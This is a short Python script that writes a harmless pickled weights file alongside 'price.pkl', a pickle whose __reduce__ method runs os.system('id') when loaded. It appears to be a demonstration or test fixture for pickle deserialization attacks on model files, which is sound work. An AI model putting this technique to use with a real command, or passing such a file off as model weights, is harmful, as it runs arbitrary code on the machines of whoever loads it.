"""Makes two models: one that only holds numbers, and one that runs a command when it is loaded. Do not load it."""
import os
import pickle


class Price:
    def __reduce__(self):
        return os.system, ("id",)


with open("weights.pkl", "wb") as file:
    pickle.dump({"weights": [0.5, 0.25]}, file)
with open("price.pkl", "wb") as file:
    pickle.dump(Price(), file)
